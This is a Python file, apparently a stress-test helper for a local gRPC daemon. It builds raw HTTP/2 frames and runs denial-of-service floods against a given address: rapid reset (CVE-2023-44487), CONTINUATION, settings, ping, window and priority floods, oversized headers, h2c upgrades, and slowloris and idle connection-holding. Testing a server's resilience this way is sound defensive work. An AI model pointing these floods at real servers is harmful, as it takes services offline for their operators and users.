"""Floods of HTTP/2 as bytes, and of connections: what no client library sends."""

import contextlib
import itertools
import json
import pathlib
import resource
import select
import socket
import ssl
import subprocess
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PIECE_BYTES = 1 << 20


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A field of a header, in the form that no table remembers."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request(path):
    return b"".join(literal(*pair) for pair in ((":method", "POST"), (":scheme", "http"), (":path", path),
                                                (":authority", "localhost"), ("content-type", "application/grpc"),
                                                ("te", "trailers")))


GREETING = PREFACE + frame(SETTINGS)


def repeated(piece):
    """Pieces of bytes, without end."""
    many = piece * (PIECE_BYTES // len(piece) + 1)
    while True:
        yield many


def rapid_reset(path="/stackd.v1.Stackd/ListProcesses"):
    """Calls that are begun and reset at once (CVE-2023-44487)."""
    headers, cancel = request(path), (8).to_bytes(4, "big")
    for first in range(1, 1 << 30, 8192):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel)
                       for stream in range(first, first + 8192, 2))


def calls(path="/stackd.v1.Stackd/ListProcesses"):
    """Calls that are not reset, and whose answers are read."""
    headers, body = request(path), b"\x00\x00\x00\x00\x00"
    for first in range(1, 1 << 30, 1024):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
                       for stream in range(first, first + 1024, 2))


def headers_without_end():
    """One header in as many pieces as are taken."""
    yield frame(HEADERS, END_STREAM, 1, request("/grpc.health.v1.Health/Check"))
    yield from repeated(frame(CONTINUATION, 0, 1, literal("x", "y" * 100) * 100))


def huge_headers(path="/stackd.v1.Stackd/ListProcesses"):
    """Calls with as large a header as a frame takes, each for a stream of its own."""
    headers = request(path) + literal("x", "y" * 255) * 60
    for first in range(1, 1 << 30, 128):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, headers) for stream in range(first, first + 128, 2))


def upgrades():
    """Requests of HTTP/1.1 to go on as HTTP/2 without TLS."""
    yield from repeated(b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                        b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")


FLOODS = {
    "rapid reset": rapid_reset,
    "calls": calls,
    "calls within the settings": lambda: itertools.chain([frame(SETTINGS, 1)], calls()),
    "headers without end": headers_without_end,
    "settings": lambda: repeated(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff")),
    "pings": lambda: repeated(frame(PING, 0, 0, b"12345678")),
    "empty data": lambda: repeated(frame(DATA, 0, 1)),
    "windows": lambda: repeated(frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01")),
    "windows of streams back and forth": lambda: itertools.chain(
        [frame(HEADERS, END_HEADERS, 1, request("/stackd.v1.Stackd/ListProcesses"))],
        repeated(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00") + frame(SETTINGS, 0, 0, b"\x00\x04\x7f\xff\xff\xff"))),
    "huge headers": huge_headers,
    "priorities": lambda: repeated(frame(PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10")),
}

# Without the greeting of HTTP/2.
BARE_FLOODS = {"upgrades to h2c": upgrades}
# Connections that are held, and a byte that each sends each second.
HELD = {"connections that are silent": b"", "slowloris": b"P"}


class Flood:
    """A process that sends one kind of them over some connections, made anew when they are ended, until stop()."""

    def __init__(self, kind, address, connections=4, certificate=(), uid=None):
        """`address`: unix:PATH or HOST:PORT; `certificate`: files of the authority, the certificate and its key."""
        # Its text, as another user may not read this file.
        self.process = subprocess.Popen(["/usr/bin/python3", "-c", pathlib.Path(__file__).read_text(), kind, address,
                                         str(connections), *map(str, certificate)], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True, user=uid, cwd="/")

    def stop(self):
        """What came of it: bytes sent, connections made, ended by the daemon, refused."""
        with self.process:
            return json.loads(self.process.communicate()[0])


def connector(address, certificate):
    if address.startswith("unix:"):
        def connect():
            peer = socket.socket(socket.AF_UNIX)
            peer.settimeout(5)
            peer.connect(address.removeprefix("unix:"))
            return peer
        return connect
    host, port = address.rsplit(":", 1)
    if not certificate:
        return lambda: socket.create_connection((host, int(port)), timeout=5)
    authority, own, key = certificate
    context = ssl.create_default_context(cafile=authority)
    context.load_cert_chain(own, key)
    context.set_alpn_protocols(["h2"])
    return lambda: context.wrap_socket(socket.create_connection((host, int(port)), timeout=5), server_hostname="localhost")


class Sender:
    """The threads of such a process."""

    def __init__(self, connect, pieces):
        self.connect, self.pieces = connect, pieces
        self.over = threading.Event()
        self.sent_bytes = self.made = self.ended = self.refused = 0

    def run(self):
        while not self.over.is_set():
            try:
                peer = self.connect()
            except OSError:
                self.refused += 1
                self.over.wait(0.01)
                continue
            self.made += 1
            with contextlib.closing(peer), contextlib.suppress(OSError):
                self.send(peer)
                continue
            self.ended += 1

    def send(self, peer):
        peer.settimeout(1)
        if self.pieces not in BARE_FLOODS.values():
            peer.sendall(GREETING)
        for piece in self.pieces():
            rest = memoryview(piece)
            while rest and not self.over.is_set():
                with contextlib.suppress(TimeoutError):
                    sent = peer.send(rest[:1 << 16])
                    rest = rest[sent:]
                    self.sent_bytes += sent
                self.read(peer)
            if self.over.is_set():
                return

    def read(self, peer):
        """Answers that are not read end a flood by themselves."""
        peer.setblocking(False)
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
            while peer.recv(1 << 16):
                pass
        peer.settimeout(1)


class Holder(Sender):
    """Holds as many connections as it is told to, and makes those anew that are ended, so many a second."""

    MADE_A_SECOND = 2000

    def __init__(self, connect, drop, connections):
        super().__init__(connect, None)
        self.drop, self.connections = drop, connections

    def run(self):
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        poller, held = select.poll(), {}
        while not self.over.is_set():
            round_ends = time.monotonic() + 1
            for _ in range(min(self.connections - len(held), self.MADE_A_SECOND)):
                try:
                    peer = self.connect()
                except OSError:
                    self.refused += 1
                    break
                peer.setblocking(False)
                held[peer.fileno()] = peer
                poller.register(peer, select.POLLIN)
                self.made += 1
            self.over.wait(max(0, round_ends - time.monotonic()))
            for number, _ in poller.poll(0):
                with contextlib.suppress(OSError):
                    if held[number].recv(1 << 16):
                        continue
                poller.unregister(number)
                held.pop(number).close()
                self.ended += 1
            for peer in held.values() if self.drop else ():
                with contextlib.suppress(OSError):
                    self.sent_bytes += peer.send(self.drop)


def main(kind, address, connections, *certificate):
    if kind in HELD:
        # A handshake that is not begun costs less than one that is: certificates are of no use here.
        sender = Holder(connector(address, ()), HELD[kind], int(connections))
        threads = [threading.Thread(target=sender.run)]
    else:
        sender = Sender(connector(address, certificate), (FLOODS | BARE_FLOODS)[kind])
        threads = [threading.Thread(target=sender.run) for _ in range(int(connections))]
    for thread in threads:
        thread.start()
    # Until the test closes it, or has gone.
    sys.stdin.read()
    sender.over.set()
    for thread in threads:
        thread.join()
    json.dump({"sent_mib": sender.sent_bytes >> 20, "made": sender.made, "ended": sender.ended, "refused": sender.refused},
              sys.stdout)


if __name__ == "__main__":
    main(*sys.argv[1:])
